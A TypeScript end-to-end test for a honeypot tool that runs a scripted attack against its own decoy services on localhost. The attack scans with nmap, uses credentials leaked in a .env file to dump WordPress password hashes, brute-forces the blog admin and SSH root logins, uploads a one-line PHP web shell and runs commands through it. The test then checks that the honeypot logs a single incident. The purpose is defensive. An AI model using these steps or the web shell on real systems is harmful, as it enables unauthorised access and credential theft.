/**
 * A newcomer with the README in hand starts a machine, scans it, and breaks in through three of its services with Debian's clients: by what lies in its web root into
 * the database, by guessing into its blog and from there by a web shell, and by guessing over SSH. One incident tells all of it, in order.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Incident } from '@netsentinel/contracts/incident';
import { freePort } from '@netsentinel/testkit/free-port';
import { run, up, type Started } from '../cli/netsentinel.ts';

const TOOLS = ['nmap', 'curl', 'mysql', 'sshpass', 'ssh'];
const missing = TOOLS.filter((tool) => spawnSync('which', [tool]).status !== 0);
const POLL = { timeout: 60_000, interval: 250 };

interface Listed {
  readonly port: number;
  readonly service: string;
  readonly product: string;
  readonly version: string;
}

function tool(command: string, ...args: readonly string[]): string {
  const { stdout, stderr } = spawnSync('timeout', ['-k', '2', '40', command, ...args], { encoding: 'utf8' });
  return stdout + stderr;
}

describe.skipIf(missing.length > 0)('a web server with a database, to a newcomer', () => {
  let folder: string;
  let started: Started | undefined;
  let listed: readonly Listed[];
  let web: string;
  let cookies: string;

  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'ns-newcomer-'));
    cookies = join(folder, 'cookies');
    writeFileSync(join(folder, 'netsentinel.yaml'), `data: ./data\nconsole: { port: ${await freePort()} }\n`);
    started = await up([], {
      cwd: folder,
      choice: ['--persona', 'ubuntu-22.04-web', '--seed', '7', '--ports', 'high'],
    });
    listed = JSON.parse((await run(['decoys', 'list', '--json'], { cwd: folder })).out) as Listed[];
    web = `http://127.0.0.1:${portOf('http')}`;
  }, 90_000);
  afterAll(async () => {
    await started?.stop();
    rmSync(folder, { recursive: true, force: true });
  });

  const portOf = (service: string): number => listed.find((one) => one.service === service)!.port;
  const curl = (...args: readonly string[]): string => tool('curl', '-s', '-c', cookies, '-b', cookies, ...args);
  const incidents = async (): Promise<Incident[]> => {
    const { out } = await run(['incidents', '--json'], { cwd: folder });
    // Where the watcher runs, others on this machine's network may have been seen as well.
    const ids = out.split('\n').filter((line) => line.includes('"actor":"127.0.0.1"'));
    return Promise.all(
      ids.map(async (line) => {
        const { id } = JSON.parse(line) as { id: string };
        return JSON.parse((await run(['incidents', id, '--json'], { cwd: folder })).out) as Incident;
      }),
    );
  };

  it('is to nmap what decoys list says', () => {
    const seen = tool('nmap', '-Pn', '-n', '-sV', '-p', listed.map(({ port }) => port).join(','), '127.0.0.1');
    for (const { port, service, product, version } of listed)
      expect(seen).toMatch(
        new RegExp(String.raw`^${port}/tcp +open +${service} +${product} ${version.replaceAll('.', '\\.')}`, 'm'),
      );
  });

  it('lets them into the database with what its web server leaks', () => {
    const settings = curl(`${web}/.env`);
    const [, user = ''] = /^DB_USERNAME=(.+)$/m.exec(settings) ?? [];
    const [, password = ''] = /^DB_PASSWORD=(.+)$/m.exec(settings) ?? [];
    const [, name = ''] = /^DB_DATABASE=(.+)$/m.exec(settings) ?? [];
    const rows = tool(
      'mysql',
      '-h',
      '127.0.0.1',
      '-P',
      `${portOf('mysql')}`,
      '-u',
      user,
      `-p${password}`,
      name,
      '-e',
      'SELECT user_login, user_pass FROM wp_users',
    );
    expect(rows).toMatch(/^\w+\t\$P\$/m);
  });

  it('lets them into the blog by guessing, and runs the shell that they leave there', () => {
    const guess = (password: string): boolean =>
      curl(
        '-o',
        '/dev/null',
        '-w',
        '%{redirect_url}',
        '--data-urlencode',
        'log=admin',
        '--data-urlencode',
        `pwd=${password}`,
        '-d',
        'testcookie=1',
        `${web}/wp-login.php`,
      ).includes('/wp-admin/');
    expect(['admin', 'letmein', 'wordpress', 'summer', 'winter', 'dragon'].some(guess)).toBe(true);
    const shell = join(folder, 'look.php');
    writeFileSync(shell, '<?php system($_GET["cmd"]); ?>');
    curl('-F', `async-upload=@${shell}`, '-F', 'html-upload=Upload', `${web}/wp-admin/media-new.php`);
    const [, left = ''] = /href="([^"]+look\.php)"/.exec(curl(`${web}/wp-admin/upload.php`)) ?? [];
    expect(curl(`${left}?cmd=id`)).toBe('uid=33(www-data) gid=33(www-data) groups=33(www-data)\n');
  });

  it('lets them in by SSH, where everything is as it was from outside', () => {
    const ssh = (password: string): string =>
      tool(
        'sshpass',
        '-p',
        password,
        'ssh',
        '-o',
        'StrictHostKeyChecking=no',
        '-o',
        'UserKnownHostsFile=/dev/null',
        '-o',
        'PreferredAuthentications=password',
        '-o',
        'NumberOfPasswordPrompts=1',
        '-p',
        `${portOf('ssh')}`,
        'root@127.0.0.1',
        'id; hostname; ls /var/www/html; grep DB_PASSWORD /var/www/html/.env; ss -tln',
      );
    let shown = '';
    for (const password of ['sunshine', 'iloveyou', 'monkey', 'master', 'shadow']) {
      shown = ssh(password);
      if (shown.includes('uid=0(root)')) break;
    }
    expect(shown).toContain('wp-config.php');
    expect(shown).toContain(/^DB_PASSWORD=.+$/m.exec(curl(`${web}/.env`))![0]);
    expect(shown).toMatch(/:3306\b/);
  });

  it('is one incident that tells all of it, each step with its service', async () => {
    await expect.poll(async () => (await incidents()).map(({ counts }) => counts.logins), POLL).toEqual([3]);
    const [incident] = await incidents();
    expect(incident!.title).toMatch(
      /^MySQL, HTTP and SSH break-in(?: by brute force)? from 127\.0\.0\.1, logged in as wp_user, admin and root, .*left a web shell/,
    );
    expect(incident!.severity).toBe('critical');
    expect(incident!.timeline.filter(({ kind }) => kind === 'login').map(({ protocol }) => protocol)).toEqual([
      'mysql',
      'http',
      'ssh',
    ]);
    expect(incident!.commands.map(({ input }) => input)).toEqual(
      expect.arrayContaining([
        expect.stringContaining('FROM wp_users'),
        'id',
        expect.stringContaining('ls /var/www/html'),
      ]),
    );
    expect(incident!.files.map(({ path }) => path)).toContainEqual(expect.stringMatching(/\/look\.php$/));
    expect(incident!.techniques).toEqual(
      expect.arrayContaining(['T1595.001', 'T1078', 'T1110', 'T1552.001', 'T1505.003']),
    );
    const found = incident!.detections.map(({ rule }) => rule);
    expect(found).toContain('honeytoken-use');
    const times = incident!.timeline.map(({ time }) => time);
    expect(times.toSorted((a, b) => a - b)).toEqual(times);
    expect(incident!.timeline.length).toBeLessThan(120);
  });
});
